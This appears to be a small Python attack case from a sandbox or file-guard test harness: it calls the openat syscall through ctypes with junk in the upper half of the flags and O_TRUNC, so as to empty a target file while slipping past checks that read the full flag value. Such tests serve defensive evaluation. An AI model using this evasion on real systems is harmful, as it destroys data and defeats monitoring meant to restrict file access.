"""Empties a file with flags that are wrong in their upper half, which the kernel does not look at."""

# judge: changed

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
OPENAT = {"x86_64": 257, "aarch64": 56}[os.uname().machine]


def attack(ground):
    flags = ctypes.c_ulong(0xABCD << 32 | os.O_RDONLY | os.O_TRUNC)
    if libc.syscall(OPENAT, ctypes.c_long(-100), ground["file"].encode(), flags, ctypes.c_long(0)) < 0:
        raise OSError(ctypes.get_errno(), "openat")
